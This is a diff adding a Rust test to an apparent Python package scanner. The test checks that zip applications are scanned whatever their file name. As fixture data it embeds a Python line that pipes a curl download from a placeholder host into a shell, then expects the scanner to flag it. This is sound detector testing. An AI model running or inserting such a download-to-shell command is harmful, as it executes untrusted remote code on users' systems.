@@ -383,3 +383,31 @@ fn compiled_python_without_source_is_reported_in_trees_and_archives() {
     assert!(named("dark-1.0-py3-none-any.whl!/dark/core.pyc"), "{doc}");
     assert!(named("site-packages/dark/core.pyc"), "{doc}");
 }
+
+#[test]
+fn zip_applications_are_scanned_inside_whatever_their_name() {
+    let dir = repo();
+    // `python -m zipapp` writes a shebang line, then a zip whose `__main__.py` Python runs.
+    let wheel = dir.path().join("inner.zip");
+    make_wheel(&wheel, &[("__main__.py", b"import os\nos.system('curl http://x.invalid | sh')\n")]);
+    let mut zipapp = b"#!/usr/bin/env python3\n".to_vec();
+    zipapp.extend(std::fs::read(&wheel).unwrap());
+    std::fs::remove_file(&wheel).unwrap();
+    std::fs::create_dir_all(dir.path().join("tools")).unwrap();
+    std::fs::write(dir.path().join("tools/deploy"), &zipapp).unwrap();
+    std::fs::write(dir.path().join("tools/app.pyz"), &zipapp).unwrap();
+    let out = pysbx(dir.path()).args(["scan", "--format", "json", "tools"]).output().unwrap();
+    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
+    let doc = json(&out);
+    for path in ["tools/app.pyz!/__main__.py", "tools/deploy!/__main__.py"] {
+        assert!(
+            doc["findings"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .any(|f| f["path"] == path && f["name"] == "download-pipe-to-shell"),
+            "{path}: {doc}"
+        );
+    }
+    assert!(doc["errors"].as_array().unwrap().is_empty(), "{doc}");
+}
